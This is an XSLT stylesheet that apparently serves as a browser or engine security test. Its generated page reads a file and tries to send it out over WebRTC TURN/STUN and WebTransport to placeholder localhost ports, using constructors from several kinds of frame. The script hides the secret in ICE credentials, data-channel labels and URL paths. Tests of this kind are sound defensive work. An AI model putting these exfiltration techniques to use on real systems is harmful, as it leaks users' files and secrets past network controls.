<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns="http://www.w3.org/1999/xhtml">
  <!-- A page whose scripts read a file beside the stylesheet and try every way they know to
       send it out through a connection the web engine makes itself: WebRTC (TURN over UDP and
       TCP, STUN) with the constructor of the page and the ones of frames it makes, and
       WebTransport. Each way ends in a line "name: none" (nothing to call), "name: sent" or
       "name: failed ...", then "done". The test puts the addresses in place of the names in
       braces. -->
  <xsl:template match="/">
    <html>
      <head><title>Connecting</title></head>
      <body>
        <div id="notes"></div>
        <script>
          var xhtml = 'http://www.w3.org/1999/xhtml';
          var found = [];
          var waiting = 2;
          function keep(name, value) { found.push([name, value]); }
          function note(text) {
            var p = document.createElementNS(xhtml, 'p');
            p.textContent = text;
            document.getElementById('notes').appendChild(p);
          }
          function frame(markup) {
            var holder = document.createElementNS(xhtml, 'div');
            holder.innerHTML = markup;
            document.body.appendChild(holder);
            return window[window.length - 1];
          }
          // First, so that it has long had its turn when the rest is done: a frame of another origin,
          // whose XML page tries on its own and says how it went, if it runs at all.
          window.addEventListener('message', function (e) {
            note('frame of its own: ' + e.data);
          });
          var own = document.createElementNS(xhtml, 'iframe');
          own.src = 'data:application/xhtml+xml,' + encodeURIComponent(
            '&lt;html xmlns="http://www.w3.org/1999/xhtml"&gt;&lt;body&gt;&lt;script&gt;&lt;![CDATA[' +
            'var said = "none";' +
            'if (typeof RTCPeerConnection === "function") {' +
            '  var pc = new RTCPeerConnection({iceServers: [{urls: ["turn:127.0.0.1:{tcp}?transport=tcp"], username: "frame", credential: "x"}]});' +
            '  pc.createDataChannel("frame"); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });' +
            '  said = "sent";' +
            '}' +
            'parent.postMessage(said, "*");' +
            ']]&gt;&lt;/script&gt;&lt;/body&gt;&lt;/html&gt;');
          document.body.appendChild(own);
          keep('page', window.RTCPeerConnection);
          keep('prefixed', window.webkitRTCPeerConnection);
          // Frames of the page's own, reached the moment they exist.
          var empty = document.createElementNS(xhtml, 'iframe');
          document.body.appendChild(empty);
          var emptyAt = window.length - 1;
          keep('new frame', window[emptyAt].RTCPeerConnection);
          keep('frame from markup', frame('&lt;iframe&gt;&lt;/iframe&gt;').RTCPeerConnection);
          var inner = empty.contentDocument.createElement('iframe');
          empty.contentDocument.body.appendChild(inner);
          keep('frame in a frame', window[emptyAt][0].RTCPeerConnection);
          // A frame whose own script hands its constructor over, and one sent elsewhere.
          var told = document.createElementNS(xhtml, 'iframe');
          told.srcdoc = '&lt;script&gt;parent.keep("frame with a script", window.RTCPeerConnection); parent.settle();&lt;\/script&gt;';
          document.body.appendChild(told);
          var moved = document.createElementNS(xhtml, 'iframe');
          document.body.appendChild(moved);
          var movedAt = window.length - 1;
          moved.onload = function () {
            keep('frame sent elsewhere', window[movedAt].RTCPeerConnection);
            settle();
          };
          moved.src = 'about:blank?moved';
          keep('transport', window.WebTransport);
          function settle() {
            if (--waiting > 0)
              return;
            fetch('{secret}').then(function (r) { return r.text(); }, function () { return 'unread'; }).then(send);
          }
          function send(secret) {
            var tries = found.map(function (f) {
              var name = f[0], Make = f[1];
              if (typeof Make !== 'function')
                return Promise.resolve(name + ': none');
              return new Promise(function (resolve) {
                if (name === 'transport') {
                  var t = new Make('https://127.0.0.1:{udp}/' + encodeURIComponent(secret));
                  t.ready.catch(function () {});
                  t.closed.catch(function () {});
                  resolve(name + ': sent');
                  return;
                }
                var pc = new Make({iceServers: [{urls: ['turn:127.0.0.1:{udp}?transport=udp', 'turn:127.0.0.1:{tcp}?transport=tcp',
                                                         'stun:127.0.0.1:{udp}'], username: secret, credential: secret}]});
                pc.createDataChannel(secret);
                pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(
                  function () { resolve(name + ': sent'); }, function (e) { resolve(name + ': failed ' + e); });
              }).catch(function (e) { return name + ': failed ' + e; });
            });
            Promise.all(tries).then(function (lines) {
              lines.forEach(note);
              note('done');
            });
          }
        </script>
      </body>
    </html>
  </xsl:template>
</xsl:stylesheet>
